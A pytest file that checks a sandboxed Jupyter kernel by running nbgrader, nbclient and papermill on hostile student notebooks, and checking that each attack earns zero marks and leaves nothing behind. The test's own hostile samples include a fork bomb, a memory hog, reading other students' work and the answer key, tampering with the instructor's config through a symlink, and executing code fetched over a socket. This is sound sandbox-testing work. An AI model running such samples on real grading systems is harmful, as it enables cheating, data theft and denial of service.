"""nbgrader, nbclient and papermill, run as an instructor would, with deploy/nbgrader's
configuration: every notebook in the locked kernelspec that ``nskernel install --name
nbgrader-jail`` writes.

A course (nbgrader's directory layout, a source notebook with a solution region and two
autograded test cells, one hidden) gets submissions from a class whose members are a correct
one, a wrong one and eight hostile ones. Each hostile submission would earn full marks if
its attack worked (it defines the answer from what it stole or fetched), so a grade of zero
is the proof the wall held; the test also plants secrets (in the other submissions, the
source notebook with the answer key, the gradebook) and looks for them in every output,
hashes the course before and after, and counts what is left of the kernels' processes.

As root the test runs twice: nbgrader as root (each kernel an id of its own on the host)
and as an unprivileged user (rootless kernels); as a user, once, as that user.
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from conftest import IS_ROOT, JUPYTER_DIR, REPO, as_user, our_processes, wait_for

DEPLOY_CONFIG = REPO / "deploy" / "nbgrader" / "nbgrader_config.py"
KERNEL = "nbgrader-jail"
#: The kernel's locks, as deploy/nbgrader/README.md installs them.
KERNEL_FLAGS = ["--visible-only", "--workdir", "ro", "--seccomp", "--memory", "512M",
                "--pids", "64", "--fsize", "64M", "--nofile", "256"]
ASSIGNMENT = "ps1"
#: Seconds a cell may run (NSKERNEL_GRADING_TIMEOUT; the deployed default is 30).
CELL_TIMEOUT = 10
#: The whole `nbgrader autograde` of the class; ten kernels, two of which use up the cell
#: timeout (and nbclient's wait for idle) before nbgrader gives up on them.
RUN_TIMEOUT = 280
#: A private range of kernel ids for a root instructor, so that what is left of the kernels
#: is counted by uid, apart from any other Jupyter's kernels on the machine.
UID_RANGE_BASE = 0x70100000

# ---------------------------------------------------------------------------- the course
SOLUTION = '''def squares(n):
    """The squares of 0 .. n-1."""
    ### BEGIN SOLUTION
    # answer key {secret}
    return [i * i for i in range(n)]
    ### END SOLUTION
'''
TESTS = [("test_small", 2, "assert squares(3) == [0, 1, 4]\n"),
         ("test_hidden", 3, "assert squares(1) == [0]\n### BEGIN HIDDEN TESTS\n"
                            "assert squares(5) == [0, 1, 4, 9, 16]\n### END HIDDEN TESTS\n")]
FULL_MARKS = 5

#: What each student's solution cell holds (the release's code replaced), formatted with the
#: course's path, the port of a listener outside and the student's own secret.
ANSWERS = {
    "correct": "def squares(n):\n    # mine: {secret}\n    return [i * i for i in range(n)]\n",
    # Right for n <= 3 only: the visible test passes (2 points), the hidden one fails.
    "wrong": "def squares(n):\n    # mine: {secret}\n"
             "    return [i * i for i in range(min(n, 3))]\n",
    # Copy the correct student's answer (and ask for the stock kernel, outside the jail).
    "reads_other": '''# mine: {secret}
import glob, json, re
for path in [*glob.glob("{course}/*/correct/ps1/*.ipynb"),
             "../../../submitted/correct/ps1/ps1.ipynb", "../../correct/ps1/ps1.ipynb",
             "{course}/submitted/correct/ps1/notes.txt"]:
    try:
        text = open(path).read()
    except OSError as exc:
        print("refused", path, exc)
        continue
    print(re.findall(r"nbgrader-secret-[0-9a-z_-]+", text))
    if path.endswith("ipynb"):
        exec("".join(json.loads(text)["cells"][0]["source"]))
''',
    # Take the answer key from the source notebook; look into the gradebook.
    "reads_key": '''# mine: {secret}
import json, re, sqlite3
for path in ["{course}/source/ps1/ps1.ipynb", "../../../source/ps1/ps1.ipynb"]:
    try:
        text = open(path).read()
    except OSError as exc:
        print("refused", path, exc)
        continue
    print(re.findall(r"nbgrader-secret-[0-9a-z_-]+", text))
    exec("".join(json.loads(text)["cells"][0]["source"]))
for path in ["{course}/gradebook.db", "../../../gradebook.db"]:
    try:
        rows = sqlite3.connect(f"file:{{path}}?mode=ro", uri=True).execute(
            "select first_name, last_name from student").fetchall()
    except sqlite3.Error as exc:
        print("refused", path, exc)
        continue
    print(rows)
''',
    # Leave something behind where the instructor works (the next run's config included).
    "writes": '''# mine: {secret}
for path in ["{course}/nbgrader_config.py", "{course}/gradebook.db",
             "{course}/source/ps1/ps1.ipynb", "{course}/submitted/correct/ps1/ps1.ipynb",
             "{course}/planted.txt", "{course}/autograded/planted.txt",
             "../../../planted.txt", "../../correct/planted.txt"]:
    try:
        with open(path, "a") as handle:
            handle.write("# planted by writes\\n")
        print("wrote", path)
    except OSError as exc:
        print("refused", path, exc)
# Or have nbgrader do it: the notebook it writes back, a link to the instructor's config.
import os
try:
    os.replace("ps1.ipynb", "planted-away.ipynb")
    os.symlink("{course}/nbgrader_config.py", "ps1.ipynb")
    print("linked ps1.ipynb")
except OSError as exc:
    print("refused the link", exc)
''',
    "fork_bomb": '''# mine: {secret}
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
    "memory_hog": '''# mine: {secret}
hog = []
while True:
    hog.append(bytearray(64 << 20))
''',
    # Swallows the interrupt that the cell timeout sends.
    "endless_loop": '''# mine: {secret}
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
''',
    # Fetch the answer from a helper outside (the test's listener on the host's loopback).
    "network": '''# mine: {secret}
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=5) as helper:
    exec(helper.recv(1000).decode())
''',
    "kills_kernel": '''# mine: {secret}
import os, signal
def squares(n):
    return [i * i for i in range(n)]
os.kill(os.getpid(), signal.SIGKILL)
''',
}
#: What each deserves: the correct and the wrong answer their points, every attack nothing.
DESERVED = {"correct": FULL_MARKS, "wrong": 2}


def nbgrader_cell(grade_id: str, *, solution: bool = False, points: int = 0) -> dict:
    return {"nbgrader": {"grade": points > 0, "solution": solution, "locked": not solution,
                         "points": points, "grade_id": grade_id, "task": False,
                         "schema_version": 3}}


def source_notebook(key_secret: str) -> nbformat.NotebookNode:
    cells = [nbformat.v4.new_code_cell(SOLUTION.format(secret=key_secret),
                                       metadata=nbgrader_cell("squares", solution=True))]
    cells += [nbformat.v4.new_code_cell(code, metadata=nbgrader_cell(grade_id, points=points))
              for grade_id, points, code in TESTS]
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                       "language": "python"}
    return notebook


@dataclass
class Instructor:
    """Who runs the tools: root, or a user (made for the run when the test is root)."""

    name: str
    user: pwd.struct_passwd | None  # None: root
    env: dict[str, str]
    #: This run's processes when the instructor came (for the caller: what is not new).
    running: frozenset[int] = frozenset()

    def run(self, argv: list[str], cwd: Path, timeout: float) -> subprocess.CompletedProcess:
        """``argv`` in ``cwd`` as this instructor, with the jail's kernelspec on JUPYTER_PATH;
        the whole command within ``timeout`` seconds (TimeoutExpired past it)."""
        if self.user is None:
            return subprocess.run(argv, cwd=cwd, env={**os.environ, **self.env},
                                  capture_output=True, text=True, timeout=timeout)
        settings = [f"{key}={value}" for key, value in self.env.items()]
        return as_user(self.user, ["env", *settings, "sh", "-c", 'cd "$0" && exec "$@"',
                                   str(cwd), *argv], timeout=timeout)

    def own(self, path: Path) -> None:
        if self.user is not None and IS_ROOT:
            for item in [path, *path.rglob("*")]:
                os.lchown(item, self.user.pw_uid, self.user.pw_gid)

    def kernel_processes(self) -> dict[int, str]:
        """Processes of the kernels this instructor's tools started that are still alive: by
        uid (a root instructor's kernels have ids of UID_RANGE; a user made for the run runs
        nothing else), or, for the caller, the processes this test run marked."""
        if self.user is not None and not IS_ROOT:
            return {pid: command for pid, command in our_processes().items()
                    if pid not in self.running}
        if self.user is None:
            first, last = (int(part) for part in self.env["NSKERNEL_UID_RANGE"].split("-"))
            uids = range(first, last + 1)
        else:
            uids = range(self.user.pw_uid, self.user.pw_uid + 1)
        found = {}
        for entry in os.listdir("/proc"):
            try:
                status = Path(f"/proc/{entry}/status").read_text()
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except (OSError, ValueError):
                continue
            uid = int(next(line for line in status.splitlines()
                           if line.startswith("Uid:")).split()[1])
            if uid in uids:
                found[int(entry)] = cmdline.replace(b"\0", b" ").decode(errors="replace")
        return found


WHO = ["root", "user"] if IS_ROOT else ["user"]


@pytest.fixture(scope="module")
def jail_kernelspec() -> Iterator[Path]:
    """The kernelspec, installed by `nskernel install` into a prefix of the test's own; the
    Jupyter data directory to put on JUPYTER_PATH."""
    prefix = Path(tempfile.mkdtemp(prefix="nskernel-nbgrader-prefix-"))
    try:
        prefix.chmod(0o755)
        done = subprocess.run([sys.executable, "-m", "nskernel", "install", "--prefix",
                               str(prefix), "--name", KERNEL, *KERNEL_FLAGS],
                              capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        data = prefix / "share" / "jupyter"
        for item in [data, *data.rglob("*")]:
            item.chmod(0o755 if item.is_dir() else 0o644)
        yield data
    finally:
        shutil.rmtree(prefix)


@pytest.fixture(params=WHO)
def instructor(request: pytest.FixtureRequest, jail_kernelspec: Path) -> Instructor:
    # nbgrader runs alembic, which it expects on PATH (beside the venv's python).
    env = {"PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "JUPYTER_PATH": f"{jail_kernelspec}{os.pathsep}{JUPYTER_DIR}",
           "NSKERNEL_GRADING_TIMEOUT": str(CELL_TIMEOUT)}
    if request.param == "root":
        first = UID_RANGE_BASE + (os.getpid() % 4096) * 16
        env["NSKERNEL_UID_RANGE"] = f"{first}-{first + 15}"
        return Instructor("root", None, env)
    user = request.getfixturevalue("unprivileged_user")
    return Instructor(user.pw_name, user, env, frozenset(our_processes()))


@pytest.fixture
def workspace() -> Iterator[Path]:
    """A directory of the test's own that others may enter (a root kernel is nobody), where
    an instructor keeps a course: below the working directory (the checkout), which the
    host shows; not in /tmp, which every isolated kernel has a fresh one of anyway."""
    made = Path(tempfile.mkdtemp(dir=os.getcwd(), prefix=".nskernel-nbgrader-"))
    made.chmod(0o755)
    try:
        yield made
    finally:
        shutil.rmtree(made)


class Helper:
    """A listener on the host's loopback that hands the answer to whoever connects: what a
    submission could reach if the kernel shared the host's network."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.callers: list[str] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, address = self.server.accept()
            except OSError:
                return  # closed
            self.callers.append(f"{address}")
            with connection:
                connection.sendall(b"def squares(n):\n    return [i * i for i in range(n)]\n")

    def close(self) -> None:
        self.server.shutdown(socket.SHUT_RDWR)
        self.server.close()
        self.thread.join(timeout=5)


@pytest.fixture
def helper() -> Iterator[Helper]:
    served = Helper()
    try:
        yield served
    finally:
        served.close()


def tree_digest(root: Path, leave_out: tuple[str, ...] = ()) -> dict[str, str]:
    """{relative path: sha256 (or the link's target, or "dir")} of everything under ``root``
    but the paths (relative) in or below ``leave_out``."""
    digest = {}
    for item in sorted(root.rglob("*")):
        name = str(item.relative_to(root))
        if any(name == left or name.startswith(left + "/") for left in leave_out):
            continue
        if item.is_symlink():
            digest[name] = "-> " + os.readlink(item)
        elif item.is_dir():
            digest[name] = "dir"
        else:
            digest[name] = hashlib.sha256(item.read_bytes()).hexdigest()
    return digest


def all_outputs(notebook_path: Path) -> str:
    """Every output of a notebook, as one text (streams, results, errors)."""
    notebook = nbformat.read(notebook_path, as_version=4)
    return json.dumps([cell.get("outputs", []) for cell in notebook.cells])


# ---------------------------------------------------------------------------- nbgrader
def test_nbgrader_autograde_grades_a_hostile_class_in_the_jail(
        instructor: Instructor, workspace: Path, helper: Helper) -> None:
    course = workspace / "course"
    token = secrets.token_hex(6)
    secret = {name: f"nbgrader-secret-{name}-{token}"
              for name in [*ANSWERS, "key", "gradebook"]}
    (course / "source" / ASSIGNMENT).mkdir(parents=True)
    shutil.copy(DEPLOY_CONFIG, course / "nbgrader_config.py")
    nbformat.write(source_notebook(secret["key"]), course / "source" / ASSIGNMENT / "ps1.ipynb")
    instructor.own(workspace)
    nbgrader = [sys.executable, "-m", "nbgrader"]
    for argv in ([*nbgrader, "generate_assignment", ASSIGNMENT],
                 [*nbgrader, "db", "student", "add", "ta_notes",
                  f"--last-name={secret['gradebook']}"]):
        done = instructor.run(argv, course, timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr

    released = nbformat.read(course / "release" / ASSIGNMENT / "ps1.ipynb", as_version=4)
    for student, answer in ANSWERS.items():
        where = course / "submitted" / student / ASSIGNMENT
        where.mkdir(parents=True)
        submission = nbformat.from_dict(json.loads(json.dumps(released)))
        submission.cells[0].source = answer.format(course=course, port=helper.port,
                                                   secret=secret[student])
        if student == "reads_other":  # asks for the stock kernel, outside the jail
            submission.metadata["kernelspec"]["name"] = "python3"
        nbformat.write(submission, where / "ps1.ipynb")
        (where / "notes.txt").write_text(f"{secret[student]}\n")
        (where / "timestamp.txt").write_text("2026-12-01 12:00:00.000000 UTC\n")
    instructor.own(workspace)
    gradebook = course / "gradebook.db"
    assert secret["gradebook"].encode() in gradebook.read_bytes()
    ours = ("autograded", "gradebook.db", ".nbgrader.log")  # what autograde writes
    before = tree_digest(course, leave_out=ours)

    # The instructor's command, as they would type it, under a timeout for the whole class.
    done = instructor.run([*nbgrader, "autograde", ASSIGNMENT], course, timeout=RUN_TIMEOUT)
    log = done.stdout + done.stderr

    # Grades: what the answers deserve; every attack nothing, or no grade at all (failed).
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{gradebook}") as book:
        scores = {student: book.find_submission(ASSIGNMENT, student).score
                  for student in ANSWERS}
    assert scores == {student: DESERVED.get(student, 0) for student in ANSWERS}, log
    graded = {path.parent.parent.name for path in
              (course / "autograded").glob(f"*/{ASSIGNMENT}/ps1.ipynb")}
    assert {"correct", "wrong", "reads_other", "reads_key", "writes", "network"} <= graded, log
    # The others failed, and nbgrader says so, student by student.
    failed = set(re.findall(rf"error processing assignment '{ASSIGNMENT}' for student '(\w+)'",
                            log))
    assert failed == set(ANSWERS) - graded and "correct" not in failed, log
    assert done.returncode != 0 if failed else done.returncode == 0, log

    # Nothing outside the submissions changed; nothing planted in another's autograded copy.
    assert tree_digest(course, leave_out=ours) == before, log
    planted = sorted(str(path.relative_to(course)) for path in course.rglob("*planted*"))
    assert planted in ([], ["autograded/writes/ps1/planted.txt"]), planted
    assert b"planted by" not in gradebook.read_bytes()
    for notebook in (course / "autograded").glob(f"*/{ASSIGNMENT}/*.ipynb"):
        assert "planted by" not in notebook.read_text() or "/writes/" in str(notebook)

    # Nothing of the others was read: no secret but the student's own in its outputs.
    for student in graded:
        outputs = all_outputs(course / "autograded" / student / ASSIGNMENT / "ps1.ipynb")
        leaked = [name for name, text in secret.items() if text in outputs and name != student]
        assert not leaked, f"{student}'s outputs show {leaked}: {outputs[:2000]}"
    assert helper.callers == [], "a submission reached the host's loopback"

    # The kernels are gone, with every process they made (the fork bomb's included) and so
    # the memory they held (their cgroups: the leak check after each test).
    assert wait_for(lambda: not instructor.kernel_processes(), timeout=10), \
        instructor.kernel_processes()


# ---------------------------------------------------------------------------- nbclient, papermill
#: A notebook that tries everything in turn; each attempt reports what it got. The parameters
#: cell (papermill's) names a private directory beside the notebook's and the helper's port.
HOSTILE_CELLS = [
    'private = ""\nport = 0\n',
    '''for path in [f"{private}/secret.txt", "../private/secret.txt"]:
    try:
        print("read", open(path).read())
    except OSError as exc:
        print("refused", type(exc).__name__)
''',
    '''for path in [f"{private}/planted.txt", "../planted.txt", "planted.txt"]:
    try:
        open(path, "w").write("planted")
        print("wrote", path)
    except OSError as exc:
        print("refused", type(exc).__name__)
''',
    '''import socket
try:
    print("fetched", socket.create_connection(("127.0.0.1", port), timeout=5).recv(100))
except OSError as exc:
    print("refused", type(exc).__name__)
''',
    '''hog = []
try:
    while True:
        hog.append(bytearray(64 << 20))
except MemoryError:
    print("refused MemoryError after", len(hog) * 64, "MB")
del hog
''',
    '''import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
]
#: The attempts' reports, as the outputs must show them (the fork bomb's cell times out).
#: The writes: the private directory is absent, the notebook's read-only (EROFS). Its parent
#: is a read-only cover, or, below /tmp (a user's run from there), the kernel's own fresh
#: /tmp: nothing reaches the host either way (the digest of the workspace says so).
REFUSED = [["refused FileNotFoundError\nrefused FileNotFoundError\n"],
           [f"refused FileNotFoundError\n{parent}\nrefused OSError\n"
            for parent in ("refused OSError", "refused PermissionError",
                           "wrote ../planted.txt")],
           ["refused ConnectionRefusedError\n"]]

#: nbclient as a grading script would use it: the jail's kernel, a time limit per cell that
#: interrupts once and records the cell as failed (without error_on_timeout nbclient
#: interrupts again and again until the cell answers), errors recorded and the run going on;
#: the executed notebook written out; how the run ended and each cell's error printed last.
NBCLIENT_DRIVER = '''
import json, sys, nbformat
from nbclient import NotebookClient
source, output, kernel, timeout = sys.argv[1:]
notebook = nbformat.read(source, as_version=4)
errors = []
def note(cell, cell_index, execute_reply):
    errors.append(execute_reply["content"].get("ename"))
client = NotebookClient(notebook, kernel_name=kernel, timeout=int(timeout),
                        on_cell_executed=note,
                        interrupt_on_timeout=True, allow_errors=True,
                        error_on_timeout={"ename": "CellTimeoutError", "evalue": timeout,
                                          "traceback": []},
                        resources={"metadata": {"path": sys.argv[1].rsplit("/", 1)[0]}})
try:
    client.execute()
    ended = "finished"
except Exception as exc:
    ended = type(exc).__name__
nbformat.write(notebook, output)
print(json.dumps([ended, errors]))
'''


@pytest.mark.parametrize("tool", ["nbclient", "papermill"])
def test_nbclient_and_papermill_run_a_hostile_notebook_in_the_jail(
        tool: str, instructor: Instructor, workspace: Path, helper: Helper) -> None:
    project, private, out = workspace / "project", workspace / "private", workspace / "out"
    for directory in (project, private, out):
        directory.mkdir()
    secret = f"nbgrader-secret-{secrets.token_hex(6)}"
    (private / "secret.txt").write_text(secret)
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(code) for code in HOSTILE_CELLS])
    notebook.cells[0].metadata["tags"] = ["parameters"]
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                       "language": "python"}
    nbformat.write(notebook, project / "hostile.ipynb")
    instructor.own(workspace)
    before = tree_digest(workspace, leave_out=("out",))

    source, output = str(project / "hostile.ipynb"), str(out / "hostile.ipynb")
    if tool == "nbclient":
        # The parameters are given in the notebook itself (nbclient has none of its own).
        notebook.cells[0].source = f"private = {str(private)!r}\nport = {helper.port}\n"
        nbformat.write(notebook, project / "hostile.ipynb")
        instructor.own(project)
        before = tree_digest(workspace, leave_out=("out",))
        argv = [sys.executable, "-c", NBCLIENT_DRIVER, source, output, KERNEL,
                str(CELL_TIMEOUT)]
    else:
        argv = [sys.executable, "-m", "papermill", source, output, "--kernel", KERNEL,
                "--cwd", str(project), "--execution-timeout", str(CELL_TIMEOUT),
                "-p", "private", str(private), "-p", "port", str(helper.port)]
    done = instructor.run(argv, workspace, timeout=120)
    log = done.stdout + done.stderr

    executed = nbformat.read(output, as_version=4)
    streams = ["".join(o.get("text", "") for o in cell.get("outputs", [])
                       if o.output_type == "stream" and o.name == "stdout")
               for cell in executed.cells]
    if tool == "papermill":
        streams = streams[1:]  # papermill's injected parameters come first
        assert done.returncode == 1 and "CellTimeoutError" in log, log  # the fork bomb
    else:
        # Every attempt reported, none raised; the bomb's cell stopped at its time limit.
        ended = json.loads(done.stdout.splitlines()[-1])
        assert ended == ["finished", [None] * 5 + ["CellTimeoutError"]], log
    assert all(stream in allowed for stream, allowed in zip(streams[1:4], REFUSED,
                                                             strict=True)), streams
    assert streams[4].startswith("refused MemoryError after "), streams
    assert secret not in json.dumps(executed), "the notebook read the private directory"
    assert tree_digest(workspace, leave_out=("out",)) == before
    assert helper.callers == []
    assert wait_for(lambda: not instructor.kernel_processes(), timeout=10), \
        instructor.kernel_processes()
